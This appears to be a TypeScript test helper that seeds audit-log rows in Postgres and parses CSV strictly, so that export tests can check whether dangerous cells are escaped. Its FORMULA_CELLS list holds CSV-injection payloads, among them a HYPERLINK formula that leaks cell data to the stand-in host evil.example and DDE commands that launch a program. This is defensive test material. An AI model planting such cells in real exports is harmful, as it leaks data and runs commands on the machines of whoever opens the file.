import { sql } from 'drizzle-orm';
import type { Database } from '../../src/db/database.ts';

/** Cells a spreadsheet would run as formulas (OWASP, CSV Injection), as an attacker sends them. */
export const FORMULA_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

/**
 * `rows` audit rows of one app inserted by one statement (generate_series), far faster than through
 * the writer: for reads and exports, whose subject is not the chain, so prev_hash and hash are
 * placeholders (unique, as the table wants). Every 10th row's user agent and detail hold a formula
 * cell, with commas, quotes and a line break around it.
 */
export async function seedAuditRows(
  database: Database,
  appId: string,
  rows: number,
): Promise<void> {
  const cells = JSON.stringify(FORMULA_CELLS);
  await database.db.execute(sql`
    insert into audit_events (id, app_id, type, verification_id, purpose, phone_masked,
      phone_hmac, client_ip, user_agent, outcome, reason, detail, created_at, prev_hash, hash)
    select 'evt_' || left(md5(${appId}), 12) || lpad(i::text, 10, '0'),
      ${appId},
      (array['verification.created', 'sms.sent', 'check.wrong', 'limit.hit'])[1 + i % 4],
      'ver_' || lpad((i / 4)::text, 22, '0'),
      'login', '+33 6•• •• •• 78', md5(i::text) || md5(i::text),
      '10.' || (i % 256) || '.' || (i / 256 % 256) || '.1',
      case when i % 10 = 0
        then (${cells}::jsonb ->> (i / 10 % ${FORMULA_CELLS.length})) || ', "quoted"' || chr(10) || 'next'
        else 'Mozilla/5.0' end,
      case when i % 4 = 3 then 'refused' else 'ok' end,
      case when i % 4 = 3 then 'ip_send_hour' else null end,
      case when i % 10 = 0
        then jsonb_build_object('note', ${cells}::jsonb ->> (i / 10 % ${FORMULA_CELLS.length}), 'n', i)
        else jsonb_build_object('n', i) end,
      timestamptz '2026-01-01 00:00:00+00' + i * interval '1 second',
      md5(${appId} || 'p' || i) || md5(${appId} || 'q' || i),
      md5(${appId} || 'h' || i) || md5(${appId} || 'k' || i)
    from generate_series(1, ${rows}) as i`);
}

/**
 * RFC 4180, strictly: rows of cells, quotes doubled inside quoted cells, line breaks allowed in
 * them; a quote anywhere else throws, so a badly quoted export fails the test.
 */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /"([^"]*(?:""[^"]*)*)"|([^",\n]*)/y;
  let at = 0;
  while (at < text.length) {
    cell.lastIndex = at;
    const match = cell.exec(text) as RegExpExecArray;
    row.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ''));
    at = cell.lastIndex;
    const separator = text[at];
    if (separator === ',') {
      at++;
      continue;
    }
    if (separator !== '\n' && at < text.length) throw new Error(`not CSV at offset ${at}`);
    rows.push(row);
    row = [];
    at++;
  }
  return rows;
}
